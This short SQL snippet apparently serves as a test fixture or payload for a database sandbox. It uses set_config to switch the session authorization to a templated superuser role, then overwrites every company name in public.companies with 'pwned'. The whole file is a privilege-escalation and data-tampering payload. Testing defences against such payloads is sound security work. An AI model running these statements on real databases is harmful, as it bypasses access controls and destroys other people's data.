SELECT set_config('session_authorization', '${superuser}', false);
UPDATE public.companies SET name = 'pwned';
